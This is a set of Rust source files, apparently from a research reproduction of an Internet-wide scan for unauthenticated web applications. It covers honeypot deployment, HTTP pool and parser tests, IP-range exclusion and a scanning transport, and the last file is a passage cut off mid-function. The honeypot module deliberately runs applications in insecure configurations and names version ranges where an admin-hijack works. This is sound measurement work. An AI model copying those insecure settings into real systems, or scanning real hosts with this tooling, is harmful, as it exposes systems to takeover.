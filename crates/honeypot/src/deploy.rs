//! Honeypot fleet construction.
//!
//! One honeypot per in-scope application, each on a dedicated machine
//! with a static public IPv4 address, running the newest release in a
//! vulnerable configuration ("we either left the applications in an
//! insecure-by-default state, or enabled insecure settings"). The
//! trust-on-first-use CMSes additionally need an *old enough* version
//! where the hijack works at all (Joomla < 3.7.4, Adminer < 4.6.3 — the
//! paper deployed configurations in which the MAV exists).

use crate::logserver::CentralLog;
use crate::monitor::MonitoredApp;
use nokeys_apps::{build_instance, release_history, AppConfig, AppId, Version};
use nokeys_http::memory::HandlerTransport;
use nokeys_http::Endpoint;
use nokeys_netsim::SimTime;
use parking_lot::RwLock;
use std::net::Ipv4Addr;
use std::sync::Arc;

/// One deployed honeypot.
pub struct Honeypot {
    pub app: AppId,
    pub endpoint: Endpoint,
    pub version: Version,
    pub monitored: Arc<MonitoredApp>,
}

/// The 18-honeypot fleet plus shared infrastructure.
pub struct Fleet {
    pub honeypots: Vec<Honeypot>,
    pub log: Arc<CentralLog>,
    pub clock: Arc<RwLock<SimTime>>,
    /// Transport with every honeypot mounted.
    pub transport: HandlerTransport,
}

impl Fleet {
    /// Deploy the full fleet. Honeypot addresses live in 64.90.1.0/24.
    pub fn deploy() -> Fleet {
        let log = Arc::new(CentralLog::new());
        let clock = Arc::new(RwLock::new(SimTime::HONEYPOT_START));
        let mut transport = HandlerTransport::new();
        let mut honeypots = Vec::new();

        for (i, app) in AppId::in_scope().enumerate() {
            let version = deploy_version(app);
            let config = AppConfig::vulnerable_for(app, &version);
            debug_assert!(
                config.is_vulnerable(app, &version),
                "{app} honeypot not vulnerable"
            );
            let instance = build_instance(app, version, config);
            let monitored = Arc::new(MonitoredApp::new(
                app,
                instance,
                Arc::clone(&log),
                Arc::clone(&clock),
            ));
            let endpoint =
                Endpoint::new(Ipv4Addr::new(64, 90, 1, (i + 1) as u8), app.scan_ports()[0]);
            transport.mount(
                endpoint,
                Arc::clone(&monitored) as Arc<dyn nokeys_http::server::Handler>,
            );
            honeypots.push(Honeypot {
                app,
                endpoint,
                version,
                monitored,
            });
        }
        Fleet {
            honeypots,
            log,
            clock,
            transport,
        }
    }

    /// The honeypot running `app`.
    pub fn honeypot(&self, app: AppId) -> Option<&Honeypot> {
        self.honeypots.iter().find(|h| h.app == app)
    }

    /// Set the fleet's virtual time.
    pub fn set_time(&self, t: SimTime) {
        *self.clock.write() = t;
    }
}

/// Which version to deploy: the newest one in which a vulnerable
/// configuration exists.
fn deploy_version(app: AppId) -> Version {
    let history = release_history(app);
    *history
        .iter()
        .rev()
        .find(|v| AppConfig::vulnerable_for(app, v).is_vulnerable(app, v))
        .unwrap_or_else(|| panic!("{app} has no deployable vulnerable version"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fleet_has_18_vulnerable_honeypots() {
        let fleet = Fleet::deploy();
        assert_eq!(fleet.honeypots.len(), 18);
        for h in &fleet.honeypots {
            assert!(
                h.monitored.is_vulnerable(),
                "{} honeypot not vulnerable",
                h.app
            );
            assert!(h.monitored.is_up());
        }
    }

    #[test]
    fn endpoints_are_unique_and_on_app_ports() {
        let fleet = Fleet::deploy();
        let mut eps: Vec<Endpoint> = fleet.honeypots.iter().map(|h| h.endpoint).collect();
        let before = eps.len();
        eps.sort();
        eps.dedup();
        assert_eq!(eps.len(), before);
        for h in &fleet.honeypots {
            assert_eq!(h.endpoint.port, h.app.scan_ports()[0]);
        }
    }

    #[test]
    fn tofu_apps_get_old_enough_versions() {
        let fleet = Fleet::deploy();
        let joomla = fleet.honeypot(AppId::Joomla).unwrap();
        assert!(joomla.version.triple() < (3, 7, 4));
        let adminer = fleet.honeypot(AppId::Adminer).unwrap();
        assert!(adminer.version.triple() < (4, 6, 3));
        // Apps without such constraints run the newest release.
        let hadoop = fleet.honeypot(AppId::Hadoop).unwrap();
        assert_eq!(
            hadoop.version.triple(),
            release_history(AppId::Hadoop).last().unwrap().triple()
        );
    }

    #[tokio::test]
    async fn honeypots_are_reachable_through_the_transport() {
        let fleet = Fleet::deploy();
        let client = nokeys_http::Client::new(fleet.transport.clone());
        let hadoop = fleet.honeypot(AppId::Hadoop).unwrap();
        let fetched = client
            .get_path(
                hadoop.endpoint,
                nokeys_http::Scheme::Http,
                "/cluster/cluster",
            )
            .await
            .unwrap();
        assert!(fetched.response.body_text().contains("dr.who"));
        assert_eq!(
            fleet.log.len(),
            1,
            "the audited request appears in the central log"
        );
    }
}
