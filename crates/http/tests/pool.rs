//! Connection-pool integration tests over real loopback TCP: reuse
//! accounting, close-signal handling, and the stale keep-alive retry.

use nokeys_http::server::serve_tcp;
use nokeys_http::transport::TcpTransport;
use nokeys_http::{Client, PooledTransport, Request, Response, Url};
use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

fn pooled_client() -> (
    Client<PooledTransport<TcpTransport>>,
    PooledTransport<TcpTransport>,
) {
    let transport = PooledTransport::new(TcpTransport::default());
    // Clones share the pool, so the handle can watch the client's stats.
    let watch = transport.clone();
    (Client::new(transport), watch)
}

fn url(port: u16, path: &str) -> Url {
    Url::parse(&format!("http://127.0.0.1:{port}{path}")).unwrap()
}

#[tokio::test]
async fn sequential_requests_reuse_one_connection() {
    let handler = Arc::new(|req: &Request, _| Response::text(req.path().to_string()));
    let server = serve_tcp(Ipv4Addr::LOCALHOST, 0, handler).await.unwrap();
    let (client, pool) = pooled_client();

    let first = client.get(&url(server.port, "/a")).await.unwrap();
    assert_eq!(first.response.body_text(), "/a");
    assert_eq!(pool.idle_count(), 1, "clean exchange pools the connection");

    let second = client.get(&url(server.port, "/b")).await.unwrap();
    assert_eq!(second.response.body_text(), "/b");
    assert_eq!(pool.stats().misses(), 1, "only the first request dialed");
    assert_eq!(
        pool.stats().hits(),
        1,
        "the second rode the pooled connection"
    );
    assert_eq!(pool.stats().stale_retries(), 0);

    server.shutdown().await;
}

#[tokio::test]
async fn connection_close_responses_are_not_pooled() {
    let handler =
        Arc::new(|_: &Request, _| Response::text("bye").with_header("Connection", "close"));
    let server = serve_tcp(Ipv4Addr::LOCALHOST, 0, handler).await.unwrap();
    let (client, pool) = pooled_client();

    for _ in 0..2 {
        let fetched = client.get(&url(server.port, "/")).await.unwrap();
        assert_eq!(fetched.response.body_text(), "bye");
        assert_eq!(pool.idle_count(), 0, "close responses must not pool");
    }
    assert_eq!(pool.stats().hits(), 0);
    assert_eq!(pool.stats().misses(), 2);
    assert_eq!(pool.stats().discarded(), 2);

    server.shutdown().await;
}

/// A server whose keep-alive promise is a lie: it answers one request
/// with a plain HTTP/1.1 response (implicitly keep-alive) and then
/// closes the connection — the classic stale keep-alive race, as seen
/// from a client that pooled the connection.
async fn lying_keepalive_server() -> u16 {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        loop {
            let Ok((mut stream, _)) = listener.accept().await else {
                break;
            };
            tokio::spawn(async move {
                let mut buf = [0u8; 4096];
                let n = stream.read(&mut buf).await.unwrap_or(0);
                if n == 0 {
                    return;
                }
                let _ = stream
                    .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
                    .await;
                // Dropping the stream closes the "kept-alive" connection.
            });
        }
    });
    port
}

#[tokio::test]
async fn stale_pooled_connection_recovers_with_one_retry() {
    let port = lying_keepalive_server().await;
    let (client, pool) = pooled_client();

    let first = client.get(&url(port, "/")).await.unwrap();
    assert_eq!(first.response.body_text(), "ok");
    assert_eq!(pool.idle_count(), 1, "the lie was believed");

    // Let the server's FIN land so the pooled connection is a corpse.
    tokio::time::sleep(Duration::from_millis(50)).await;

    let second = client.get(&url(port, "/")).await.unwrap();
    assert_eq!(second.response.body_text(), "ok");
    assert_eq!(pool.stats().hits(), 1, "the corpse was checked out");
    assert_eq!(
        pool.stats().stale_retries(),
        1,
        "exactly one fresh-connection retry"
    );
    assert_eq!(
        pool.stats().misses(),
        1,
        "the retry bypassed normal connect"
    );
}

/// HTTP/1.0 responses without a keep-alive opt-in must not be pooled,
/// even when the server (wrongly) leaves the connection open.
#[tokio::test]
async fn http10_responses_are_not_pooled() {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        loop {
            let Ok((mut stream, _)) = listener.accept().await else {
                break;
            };
            tokio::spawn(async move {
                let mut buf = [0u8; 4096];
                loop {
                    let n = stream.read(&mut buf).await.unwrap_or(0);
                    if n == 0 {
                        return;
                    }
                    let _ = stream
                        .write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok")
                        .await;
                    // Keep the socket open: a 1.0 server that forgets
                    // to close. The client must still not reuse it.
                }
            });
        }
    });
    let (client, pool) = pooled_client();
    for _ in 0..2 {
        let fetched = client.get(&url(port, "/")).await.unwrap();
        assert_eq!(fetched.response.body_text(), "ok");
    }
    assert_eq!(pool.idle_count(), 0);
    assert_eq!(pool.stats().hits(), 0);
    assert_eq!(pool.stats().misses(), 2);
}

/// Pooling is a transport-level knob: the response a caller sees must
/// be semantically identical with and without it.
#[tokio::test]
async fn pooled_and_unpooled_responses_agree() {
    let handler =
        Arc::new(|req: &Request, _| Response::json(format!(r#"{{"path":"{}"}}"#, req.path())));
    let server = serve_tcp(Ipv4Addr::LOCALHOST, 0, handler).await.unwrap();
    let plain = Client::new(TcpTransport::default());
    let (pooled, _) = pooled_client();
    for path in ["/x", "/y", "/x"] {
        let a = plain.get(&url(server.port, path)).await.unwrap();
        let b = pooled.get(&url(server.port, path)).await.unwrap();
        assert_eq!(a.response.status, b.response.status);
        assert_eq!(a.response.body, b.response.body);
        assert_eq!(a.redirects, b.redirects);
    }
    server.shutdown().await;
}
