//! Property tests for the HTTP/1.1 parser: encode/parse round trips,
//! incremental-feed equivalence and chunked-body reassembly.

use bytes::Bytes;
use nokeys_http::encode::{encode_request, encode_response};
use nokeys_http::parse::{parse_request, parse_response, Limits, Parsed};
use nokeys_http::{Headers, Method, Request, Response, StatusCode};
use proptest::prelude::*;

fn arb_header_name() -> impl Strategy<Value = String> {
    "[A-Za-z][A-Za-z0-9-]{0,20}".prop_map(|s| s)
}

fn arb_header_value() -> impl Strategy<Value = String> {
    // Header values: printable ASCII without CR/LF.
    "[ -~&&[^\r\n]]{0,40}".prop_map(|s| s.trim().to_string())
}

fn arb_headers() -> impl Strategy<Value = Headers> {
    proptest::collection::vec((arb_header_name(), arb_header_value()), 0..8).prop_map(|pairs| {
        let mut h = Headers::new();
        for (n, v) in pairs {
            // Avoid framing headers; encode_* adds Content-Length itself.
            if n.eq_ignore_ascii_case("content-length")
                || n.eq_ignore_ascii_case("transfer-encoding")
                || n.eq_ignore_ascii_case("host")
            {
                continue;
            }
            h.append(n, v);
        }
        h
    })
}

fn arb_body() -> impl Strategy<Value = Vec<u8>> {
    proptest::collection::vec(any::<u8>(), 0..512)
}

proptest! {
    #[test]
    fn response_round_trip(
        code in 200u16..=599,
        headers in arb_headers(),
        body in arb_body(),
    ) {
        let resp = Response {
            status: StatusCode(code),
            version: Default::default(),
            headers,
            body: Bytes::from(body.clone()),
        };
        let wire = encode_response(&resp);
        let parsed = parse_response(&wire, false, false, &Limits::default()).expect("parses");
        let Parsed::Complete(back, used) = parsed else { panic!("partial") };
        prop_assert_eq!(used, wire.len());
        prop_assert_eq!(back.status.as_u16(), code);
        if code != 204 && code != 304 {
            prop_assert_eq!(back.body.as_ref(), body.as_slice());
        }
    }

    /// Feeding the wire bytes in arbitrary increments never changes the
    /// outcome: Partial until complete, then the same message.
    #[test]
    fn incremental_feed_equivalence(
        body in arb_body(),
        cut in 0usize..2048,
    ) {
        let resp = Response::html(body.clone());
        let wire = encode_response(&resp);
        let cut = cut % wire.len();
        let limits = Limits::default();
        let prefix = &wire[..cut];
        match parse_response(prefix, false, false, &limits) {
            Ok(Parsed::Partial) => {}
            Ok(Parsed::Complete(_, used)) => prop_assert!(used <= cut),
            Err(e) => prop_assert!(false, "prefix errored: {e}"),
        }
        let Parsed::Complete(full, _) =
            parse_response(&wire, false, false, &limits).expect("parses")
        else { panic!("partial on full input") };
        prop_assert_eq!(full.body.as_ref(), body.as_slice());
    }

    /// Chunked bodies reassemble regardless of chunk boundaries.
    #[test]
    fn chunked_reassembly(
        body in proptest::collection::vec(any::<u8>(), 1..300),
        sizes in proptest::collection::vec(1usize..64, 1..16),
    ) {
        let mut wire = Vec::new();
        wire.extend_from_slice(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n");
        let mut rest = body.as_slice();
        let mut i = 0;
        while !rest.is_empty() {
            let take = sizes[i % sizes.len()].min(rest.len());
            wire.extend_from_slice(format!("{take:x}\r\n").as_bytes());
            wire.extend_from_slice(&rest[..take]);
            wire.extend_from_slice(b"\r\n");
            rest = &rest[take..];
            i += 1;
        }
        wire.extend_from_slice(b"0\r\n\r\n");
        let Parsed::Complete(resp, used) =
            parse_response(&wire, false, false, &Limits::default()).expect("parses")
        else { panic!("partial") };
        prop_assert_eq!(used, wire.len());
        prop_assert_eq!(resp.body.as_ref(), body.as_slice());
    }

    #[test]
    fn request_round_trip(
        target in "/[a-z0-9/_.-]{0,40}",
        body in arb_body(),
        headers in arb_headers(),
    ) {
        let req = Request {
            method: Method::Post,
            target: target.clone(),
            version: Default::default(),
            headers,
            body: Bytes::from(body.clone()),
        };
        let wire = encode_request(&req);
        let Parsed::Complete(back, used) =
            parse_request(&wire, &Limits::default()).expect("parses")
        else { panic!("partial") };
        prop_assert_eq!(used, wire.len());
        prop_assert_eq!(back.target, target);
        prop_assert_eq!(back.body.as_ref(), body.as_slice());
    }

    /// The parser never panics on arbitrary bytes.
    #[test]
    fn parser_never_panics(bytes in proptest::collection::vec(any::<u8>(), 0..600)) {
        let limits = Limits::default();
        let _ = parse_response(&bytes, false, false, &limits);
        let _ = parse_response(&bytes, true, true, &limits);
        let _ = parse_request(&bytes, &limits);
    }
}

proptest! {
    /// URL parse/display round trip for IPv4 URLs.
    #[test]
    fn url_round_trip(
        a in 1u8..=223, b in any::<u8>(), c in any::<u8>(), d in any::<u8>(),
        port in 1u16..=65535,
        path in "/[a-zA-Z0-9/_.-]{0,30}",
    ) {
        let text = format!("http://{a}.{b}.{c}.{d}:{port}{path}");
        let url = nokeys_http::Url::parse(&text).expect("valid url");
        let back = nokeys_http::Url::parse(&url.to_string()).expect("reparses");
        prop_assert_eq!(url, back);
    }
}
