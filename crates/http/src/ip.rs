//! IPv4 utilities: CIDR blocks and the IANA reserved ranges the paper
//! excluded from its scan.

use serde::{Deserialize, Serialize};
use std::fmt;
use std::net::Ipv4Addr;
use std::str::FromStr;

/// A CIDR block, e.g. `20.0.0.0/8`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct Cidr {
    /// Network base address (host bits zeroed).
    pub base: u32,
    /// Prefix length 0..=32.
    pub prefix: u8,
}

impl Cidr {
    /// Construct, zeroing host bits.
    pub fn new(addr: Ipv4Addr, prefix: u8) -> Self {
        assert!(prefix <= 32, "prefix out of range");
        let base = u32::from(addr) & Self::mask(prefix);
        Cidr { base, prefix }
    }

    fn mask(prefix: u8) -> u32 {
        if prefix == 0 {
            0
        } else {
            u32::MAX << (32 - prefix)
        }
    }

    /// Number of addresses in the block.
    pub fn size(&self) -> u64 {
        1u64 << (32 - self.prefix)
    }

    /// First address of the block.
    pub fn first(&self) -> Ipv4Addr {
        Ipv4Addr::from(self.base)
    }

    /// Last address of the block.
    pub fn last(&self) -> Ipv4Addr {
        Ipv4Addr::from(self.base | !Self::mask(self.prefix))
    }

    /// Whether `ip` belongs to the block.
    pub fn contains(&self, ip: Ipv4Addr) -> bool {
        u32::from(ip) & Self::mask(self.prefix) == self.base
    }

    /// Iterate over the /24 sub-blocks (the scan's shuffling unit). For
    /// blocks smaller than /24 the single covering block is returned.
    /// Takes `self` by value (`Cidr` is `Copy`) so the iterator borrows
    /// nothing and composes directly with `flat_map`.
    pub fn slash24_blocks(self) -> impl Iterator<Item = Cidr> {
        let step = 256u64;
        let count = if self.prefix >= 24 {
            1
        } else {
            self.size() / step
        };
        let base = self.base;
        let prefix = self.prefix.max(24);
        (0..count).map(move |i| Cidr {
            base: base + (i as u32) * 256,
            prefix,
        })
    }

    /// Iterate over every address in the block.
    pub fn addresses(self) -> impl Iterator<Item = Ipv4Addr> {
        let base = self.base as u64;
        (0..self.size()).map(move |i| Ipv4Addr::from((base + i) as u32))
    }
}

/// How much of a block an exclusion list covers. Because exclusion
/// ranges and scan blocks are both CIDRs (which nest or are disjoint),
/// a block is `Full`y covered exactly when some range with an equal or
/// shorter prefix contains it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BlockCoverage {
    /// No excluded address falls inside the block.
    None,
    /// The block straddles an exclusion boundary (only possible when the
    /// block is *larger* than some excluded range).
    Partial,
    /// Every address of the block is excluded.
    Full,
}

impl fmt::Display for Cidr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}/{}", self.first(), self.prefix)
    }
}

impl FromStr for Cidr {
    type Err = &'static str;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let (addr, prefix) = s.split_once('/').ok_or("missing /prefix")?;
        let addr: Ipv4Addr = addr.parse().map_err(|_| "bad address")?;
        let prefix: u8 = prefix.parse().map_err(|_| "bad prefix")?;
        if prefix > 32 {
            return Err("prefix > 32");
        }
        Ok(Cidr::new(addr, prefix))
    }
}

/// The IANA special-purpose / reserved IPv4 allocations excluded from the
/// scan (Section 3.1: multicast, private use, US DoD, etc.). Roughly 0.8B
/// addresses, leaving ~3.5B scannable.
#[derive(Debug, Clone)]
pub struct ReservedRanges {
    ranges: Vec<Cidr>,
}

impl Default for ReservedRanges {
    fn default() -> Self {
        Self::iana()
    }
}

impl ReservedRanges {
    /// The standard exclusion list.
    pub fn iana() -> Self {
        let list = [
            "0.0.0.0/8",       // "this network"
            "6.0.0.0/8",       // US DoD (Army)
            "7.0.0.0/8",       // US DoD
            "10.0.0.0/8",      // private
            "11.0.0.0/8",      // US DoD
            "22.0.0.0/8",      // US DoD
            "26.0.0.0/8",      // US DoD
            "28.0.0.0/8",      // US DoD
            "29.0.0.0/8",      // US DoD
            "30.0.0.0/8",      // US DoD
            "33.0.0.0/8",      // US DoD
            "55.0.0.0/8",      // US DoD
            "100.64.0.0/10",   // CGNAT
            "127.0.0.0/8",     // loopback
            "169.254.0.0/16",  // link local
            "172.16.0.0/12",   // private
            "192.0.0.0/24",    // IETF protocol assignments
            "192.0.2.0/24",    // TEST-NET-1
            "192.168.0.0/16",  // private
            "198.18.0.0/15",   // benchmarking
            "198.51.100.0/24", // TEST-NET-2
            "203.0.113.0/24",  // TEST-NET-3
            "214.0.0.0/8",     // US DoD
            "215.0.0.0/8",     // US DoD
            "224.0.0.0/4",     // multicast
            "240.0.0.0/4",     // reserved / future use
        ];
        ReservedRanges {
            ranges: list
                .iter()
                .map(|s| s.parse().expect("static list parses"))
                .collect(),
        }
    }

    /// Whether `ip` is excluded from scanning.
    pub fn contains(&self, ip: Ipv4Addr) -> bool {
        self.ranges.iter().any(|r| r.contains(ip))
    }

    /// Total number of excluded addresses (ranges do not overlap).
    pub fn excluded_count(&self) -> u64 {
        self.ranges.iter().map(|r| r.size()).sum()
    }

    /// The exclusion list itself.
    pub fn ranges(&self) -> &[Cidr] {
        &self.ranges
    }

    /// Classify `block` against the exclusion list in one pass, without
    /// testing its addresses individually. CIDRs nest or are disjoint,
    /// so a range covers the whole block iff its prefix is no longer
    /// than the block's and it contains the block's first address; the
    /// block straddles a boundary only when it strictly contains a
    /// range. With the IANA list (all prefixes ≤ 24) and /24-or-smaller
    /// scan blocks, `Partial` is unreachable.
    pub fn coverage(&self, block: Cidr) -> BlockCoverage {
        let mut partial = false;
        for r in &self.ranges {
            if r.prefix <= block.prefix && r.contains(block.first()) {
                return BlockCoverage::Full;
            }
            if block.contains(r.first()) {
                partial = true;
            }
        }
        if partial {
            BlockCoverage::Partial
        } else {
            BlockCoverage::None
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cidr_basics() {
        let c: Cidr = "10.1.2.3/24".parse().unwrap();
        assert_eq!(c.first(), Ipv4Addr::new(10, 1, 2, 0));
        assert_eq!(c.last(), Ipv4Addr::new(10, 1, 2, 255));
        assert_eq!(c.size(), 256);
        assert!(c.contains(Ipv4Addr::new(10, 1, 2, 77)));
        assert!(!c.contains(Ipv4Addr::new(10, 1, 3, 0)));
        assert_eq!(c.to_string(), "10.1.2.0/24");
    }

    #[test]
    fn parse_rejects_garbage() {
        assert!("10.0.0.0".parse::<Cidr>().is_err());
        assert!("10.0.0.0/33".parse::<Cidr>().is_err());
        assert!("999.0.0.0/8".parse::<Cidr>().is_err());
    }

    #[test]
    fn slash24_decomposition() {
        let c: Cidr = "20.0.0.0/22".parse().unwrap();
        let blocks: Vec<_> = c.slash24_blocks().collect();
        assert_eq!(blocks.len(), 4);
        assert_eq!(blocks[0].first(), Ipv4Addr::new(20, 0, 0, 0));
        assert_eq!(blocks[3].first(), Ipv4Addr::new(20, 0, 3, 0));
        // A /26 decomposes into itself.
        let c: Cidr = "20.0.0.0/26".parse().unwrap();
        assert_eq!(c.slash24_blocks().count(), 1);
    }

    #[test]
    fn addresses_enumerates_all() {
        let c: Cidr = "20.0.0.0/30".parse().unwrap();
        let addrs: Vec<_> = c.addresses().collect();
        assert_eq!(addrs.len(), 4);
        assert_eq!(addrs[3], Ipv4Addr::new(20, 0, 0, 3));
    }

    #[test]
    fn reserved_ranges_cover_the_classics() {
        let r = ReservedRanges::iana();
        assert!(r.contains(Ipv4Addr::new(10, 1, 1, 1)));
        assert!(r.contains(Ipv4Addr::new(127, 0, 0, 1)));
        assert!(r.contains(Ipv4Addr::new(224, 0, 0, 1)));
        assert!(r.contains(Ipv4Addr::new(255, 255, 255, 255)));
        assert!(!r.contains(Ipv4Addr::new(8, 8, 8, 8)));
        assert!(!r.contains(Ipv4Addr::new(20, 77, 1, 3)));
    }

    #[test]
    fn coverage_classifies_blocks_without_enumerating() {
        let r = ReservedRanges::iana();
        // Fully inside a reserved /8.
        let block: Cidr = "10.9.8.0/24".parse().unwrap();
        assert_eq!(r.coverage(block), BlockCoverage::Full);
        // Entirely scannable.
        let block: Cidr = "20.0.7.0/24".parse().unwrap();
        assert_eq!(r.coverage(block), BlockCoverage::None);
        // A /6 strictly containing several reserved /8s straddles them.
        let block: Cidr = "8.0.0.0/6".parse().unwrap();
        assert_eq!(r.coverage(block), BlockCoverage::Partial);
        // Every IANA range has prefix <= 24, so no /24-or-smaller scan
        // block can be Partial — the sparse sweep relies on this.
        for range in r.ranges() {
            assert!(range.prefix <= 24, "range {range} longer than /24");
        }
    }

    #[test]
    fn exclusion_leaves_roughly_3_5_billion() {
        let r = ReservedRanges::iana();
        let scannable = (1u64 << 32) - r.excluded_count();
        assert!(
            (3_300_000_000..3_700_000_000).contains(&scannable),
            "scannable = {scannable}"
        );
    }
}
