//! Byte-stream transport abstraction.
//!
//! The scanning pipeline is generic over how bytes reach a host so the same
//! code can run against the real Internet (tokio TCP) and against the
//! simulated IPv4 universe from `nokeys-netsim`.

use crate::error::{Error, Result};
use crate::ip::Cidr;
use std::future::Future;
use std::net::Ipv4Addr;
use std::time::Duration;
use tokio::io::{AsyncRead, AsyncWrite};

/// Connection scheme. TLS is modeled, not implemented: the simulated
/// transport performs a pretend handshake and can expose a certificate
/// subject name, which is all the study uses TLS for.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, serde::Serialize, serde::Deserialize)]
pub enum Scheme {
    Http,
    Https,
}

impl Scheme {
    pub fn as_str(self) -> &'static str {
        match self {
            Scheme::Http => "http",
            Scheme::Https => "https",
        }
    }

    pub fn default_port(self) -> u16 {
        match self {
            Scheme::Http => 80,
            Scheme::Https => 443,
        }
    }
}

/// A scan target: IPv4 address and TCP port.
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, serde::Serialize, serde::Deserialize,
)]
pub struct Endpoint {
    pub ip: Ipv4Addr,
    pub port: u16,
}

impl Endpoint {
    pub fn new(ip: Ipv4Addr, port: u16) -> Self {
        Endpoint { ip, port }
    }
}

impl std::fmt::Display for Endpoint {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}:{}", self.ip, self.port)
    }
}

/// Result of a half-open (SYN-style) port probe, mirroring masscan's view.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, serde::Serialize, serde::Deserialize)]
pub enum ProbeOutcome {
    /// SYN-ACK received: something is listening.
    Open,
    /// RST received: port closed.
    Closed,
    /// No answer within the probe deadline (dropped or filtered).
    Filtered,
}

/// Certificate information surfaced by an HTTPS connection.
///
/// Used by the responsible-disclosure step of the study: the scanner
/// inspects certificates for contactable domain names.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct CertificateInfo {
    /// Subject common name / first SAN, if the host presented one.
    pub subject: Option<String>,
}

/// A byte-stream connection plus connection-level metadata.
pub trait Connection: AsyncRead + AsyncWrite + Unpin + Send {
    /// Certificate presented during an HTTPS handshake, if any.
    fn certificate(&self) -> Option<CertificateInfo> {
        None
    }

    /// Whether this connection already served at least one exchange —
    /// i.e. it was checked out of a keep-alive pool rather than freshly
    /// established. A reused connection may be stale (the server closed
    /// it while idle), so the client allows exactly one retry on a
    /// fresh connection when a reused one fails before yielding any
    /// response bytes. Non-pooled connections are never reused.
    fn is_reused(&self) -> bool {
        false
    }

    /// Tell the connection whether the just-completed exchange left it
    /// reusable (keep-alive negotiated and the response body fully
    /// delimited). Pooled connections use this to decide between
    /// check-in and teardown on drop; the default is a no-op.
    fn set_reusable(&mut self, reusable: bool) {
        let _ = reusable;
    }

    /// Hand back a read buffer stored by a previous exchange on this
    /// connection, if the connection carries one. The client asks
    /// before allocating its response buffer, so keep-alive exchanges
    /// on a pooled connection reuse one buffer instead of allocating
    /// 4 KiB each. The default (no recycling) returns `None`.
    fn take_recycled_buf(&mut self) -> Option<bytes::BytesMut> {
        None
    }

    /// Store a cleared read buffer for the next exchange on this
    /// connection. Called by the client only when the exchange left the
    /// connection reusable; the default drops the buffer.
    fn store_recycled_buf(&mut self, buf: bytes::BytesMut) {
        let _ = buf;
    }
}

/// Outcome of sweeping one block with [`Transport::sweep_block`].
///
/// A sweep is semantically identical to probing every (address, port)
/// pair of the block in ascending address order with ports in the given
/// order, but lets a transport answer for many endpoints at once. Probes
/// that a sparse implementation can prove `Closed` without evaluating
/// them individually (empty addresses in a simulated universe) are
/// accounted arithmetically in [`bulk_closed`](Self::bulk_closed)
/// instead of appearing in [`probed`](Self::probed).
#[derive(Debug, Clone, Default)]
pub struct BlockSweepResult {
    /// Outcome of every probe that was individually evaluated, in dense
    /// scan order: addresses ascending, ports in the order given to
    /// [`Transport::sweep_block`].
    pub probed: Vec<(Endpoint, ProbeOutcome)>,
    /// Number of addresses the sweep covered (the block size).
    pub addresses_probed: u64,
    /// Probes answered `Closed` in bulk without an individual
    /// evaluation. Zero for the dense default implementation.
    pub bulk_closed: u64,
}

impl BlockSweepResult {
    /// Total probes the sweep accounts for: individually evaluated ones
    /// plus the arithmetically closed remainder. Matches what a dense
    /// per-endpoint loop would have issued.
    pub fn probes_sent(&self) -> u64 {
        self.probed.len() as u64 + self.bulk_closed
    }

    /// Endpoints that answered `Open`, in discovery order.
    pub fn open(&self) -> impl Iterator<Item = Endpoint> + '_ {
        self.probed
            .iter()
            .filter(|(_, outcome)| *outcome == ProbeOutcome::Open)
            .map(|(ep, _)| *ep)
    }
}

/// Async transport used by the scanner, the client and the honeypots.
///
/// Implementations: [`TcpTransport`] (real sockets) and
/// `nokeys_netsim::SimTransport` (simulated universe).
pub trait Transport: Send + Sync {
    /// Concrete connection type.
    type Conn: Connection;

    /// Half-open probe of a single port. Must be cheap: stage I of the
    /// pipeline issues one probe per (address, port) pair.
    fn probe(&self, ep: Endpoint) -> impl Future<Output = ProbeOutcome> + Send;

    /// Full connection establishment with the given scheme.
    fn connect(
        &self,
        ep: Endpoint,
        scheme: Scheme,
    ) -> impl Future<Output = Result<Self::Conn>> + Send;

    /// Establish a connection bypassing any idle-connection pool this
    /// transport (or a wrapper layer) maintains. The client calls this
    /// for its single stale-connection retry: a pooled connection died
    /// under the first attempt, so drawing another idle one would risk
    /// a second corpse. Defaults to [`connect`](Self::connect) —
    /// correct for every transport that does not pool.
    fn connect_fresh(
        &self,
        ep: Endpoint,
        scheme: Scheme,
    ) -> impl Future<Output = Result<Self::Conn>> + Send {
        async move { self.connect(ep, scheme).await }
    }

    /// Whether connections from this transport may be reused across
    /// exchanges. When false (the default), the client requests
    /// `Connection: close` and tears every connection down after one
    /// exchange — the pre-pooling behaviour, and what keeps the
    /// simulated transport's wire bytes unchanged.
    fn supports_reuse(&self) -> bool {
        false
    }

    /// Probe every (address, port) pair of `block` in one call.
    ///
    /// The default implementation loops [`probe`](Self::probe) over the
    /// block in dense scan order (addresses ascending, then `ports` in
    /// the given order), so any transport gets correct sweeps for free.
    /// Implementations that know which addresses are populated may
    /// answer for the empty remainder arithmetically, as long as the
    /// result is indistinguishable from the dense loop.
    fn sweep_block(
        &self,
        block: Cidr,
        ports: &[u16],
    ) -> impl Future<Output = BlockSweepResult> + Send {
        async move {
            let mut probed = Vec::new();
            for ip in block.addresses() {
                for &port in ports {
                    let ep = Endpoint::new(ip, port);
                    let outcome = self.probe(ep).await;
                    probed.push((ep, outcome));
                }
            }
            BlockSweepResult {
